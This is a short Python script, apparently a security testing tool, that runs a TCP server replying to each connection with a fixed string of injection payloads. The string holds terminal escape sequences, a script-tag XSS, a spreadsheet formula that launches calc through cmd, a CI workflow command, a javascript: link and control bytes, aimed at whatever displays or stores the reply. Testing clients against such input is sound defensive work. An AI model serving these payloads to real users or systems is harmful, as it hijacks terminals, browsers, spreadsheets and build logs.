"""Answers with what terminals, pages and sheets obey."""

import socket
import sys

ANSWER = (
    b"\x1b[2J\x1b]0;owned\x07<script>alert(1)</script>]]>=cmd|' /C calc'!A0 ::error::owned "
    b"\xff\xfe\x00 ``` [x](javascript:alert(1)) \r\x0b\n"
)
with socket.create_server(("", int(sys.argv[1]))) as welcome:
    while True:
        connection, _ = welcome.accept()
        with connection:
            connection.recv(4096)
            connection.sendall(ANSWER)
